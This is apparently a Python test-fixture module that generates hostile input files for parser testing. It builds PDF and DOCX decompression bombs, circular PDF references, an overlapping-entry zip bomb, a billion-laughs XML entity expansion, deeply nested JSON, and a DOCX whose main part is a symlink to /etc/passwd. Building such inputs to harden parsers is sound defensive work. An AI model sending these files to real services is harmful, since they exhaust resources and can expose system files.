"""Documents and data that swell, loop or nest without end."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib

from eval.bombs.pictures import laughs

_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def pdf_of_nested_streams() -> bytes:
    """A page whose content is one stream, deflated three times over and listed 5,000 times: 64 MB each (ISO 32000-1, 7.4.4, 7.8.2)."""
    data = b" " * (64 << 20)
    for _ in range(3):
        data = zlib.compress(data, 9)
    filters = b"[" + b"/FlateDecode " * 3 + b"]"
    contents = b" ".join(b"4 0 R" for _ in range(5000))
    return _pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents[" + contents + b"]>>",
        b"<</Length %d/Filter%s>>stream\n%s\nendstream" % (len(data), filters, data),
    )


def pdf_of_a_million_pages() -> bytes:
    """A tree of pages, six deep, in which each node lists the same child ten times (ISO 32000-1, 7.7.3)."""
    levels = [
        b"<</Type/Pages/Parent %d 0 R/Kids[%s]/Count %d>>"
        % (max(n - 1, 1), b" ".join([b"%d 0 R" % (n + 1)] * 10), 10 ** (7 - n + 1))
        for n in range(2, 8)
    ]
    return _pdf(b"<</Type/Catalog/Pages 2 0 R>>", *levels, b"<</Type/Page/Parent 7 0 R/MediaBox[0 0 99 99]>>")


def pdf_with_a_loop() -> bytes:
    """A table of references that names itself as the one before it, and a tree of pages that is its own child."""
    body = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 9>>endobj\n"
    at = len(body)
    table = b"xref\n0 1\n0000000000 65535 f \n"
    return body + table + b"trailer<</Size 3/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF" % (at, at)


def pdf_of_a_giant_scan() -> bytes:
    """A page that is one picture of 60,000 by 60,000 pixels, all of them blank (ISO 32000-1, 8.9.5)."""
    packer = zlib.compressobj(9)
    rows = [packer.compress(bytes(1 << 20)) for _ in range(429)] + [packer.flush()]
    data = zlib.compress(b"".join(rows), 9)
    picture = b"<</Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 1/ColorSpace/DeviceGray"
    drawing = b"99 0 0 99 0 0 cm /a Do"
    return _pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R/Resources<</XObject<</a 5 0 R>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(drawing), drawing),
        picture + b"/Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream" % (len(data), data),
    )


def docx_that_swells() -> bytes:
    """A Word document of 900 MB of one letter, which deflate takes to less than a megabyte."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        _frame(archive)
        with archive.open("word/document.xml", "w") as part:
            part.write(f"<w:document {_WORD}><w:body><w:p><w:r><w:t>".encode())
            for _ in range(900):
                part.write(b"a" * (1 << 20))
            part.write(b"</w:t></w:r></w:p></w:body></w:document>")
    return made.getvalue()


def docx_with_its_text_under_another_name() -> bytes:
    """A Word document whose main part is called a picture: 300 MB of paragraphs (ECMA-376, part 2, 10.1.2)."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _TYPES.replace("/word/document.xml", "/word/media/image.png"))
        archive.writestr("_rels/.rels", _RELATIONS.replace("word/document.xml", "word/media/image.png"))
        with archive.open("word/media/image.png", "w") as part:
            part.write(f"<w:document {_WORD}><w:body>".encode())
            for _ in range(60):
                part.write(b"<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 60_000)
            part.write(b"</w:body></w:document>")
    return made.getvalue()


def docx_of_overlapping_parts() -> bytes:
    """A zip whose directory lists one and the same compressed part ten thousand times (Fifield, "A better zip bomb", 2019)."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        _frame(archive)
        archive.writestr("word/document.xml", "a" * (40 << 20))
        whole = archive.infolist()[-1]
    data = made.getvalue()
    directory_at = struct.unpack("<I", data[-6:-2])[0]
    body, directory = data[:directory_at], data[directory_at:-22]
    entry_at = directory.rindex(b"PK\x01\x02")
    entry = directory[entry_at:]
    name = whole.filename.encode()
    listed = directory + b"".join(entry.replace(name, b"word/%08d.xml" % n, 1) for n in range(9000))
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 9003, 9003, len(listed), directory_at, 0)
    return body + listed + end


def docx_with_a_link() -> bytes:
    """A Word document whose main part is a symbolic link to a file of the reader's machine."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        _frame(archive)
        link = zipfile.ZipInfo("word/document.xml")
        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return made.getvalue()


def docx_with_entities() -> bytes:
    """A Word document whose text is an entity of 10⁹ words."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        _frame(archive)
        words = f"<w:document {_WORD}><w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>"
        archive.writestr("word/document.xml", f'<?xml version="1.0"?>{laughs()}{words}')
    return made.getvalue()


def json_of_great_depth() -> bytes:
    """A list in a list, 100,000 deep."""
    return b"[" * 100_000 + b"]" * 100_000


def _frame(archive: zipfile.ZipFile) -> None:
    archive.writestr("[Content_Types].xml", _TYPES)
    archive.writestr("_rels/.rels", _RELATIONS)


def _pdf(*objects: bytes) -> bytes:
    """Objects 1, 2, … as a file with its table of references; the first is the catalog."""
    made, places = b"%PDF-1.7\n", []
    for n, each in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj%s\nendobj\n" % (n, each)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    return made + table + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(made))
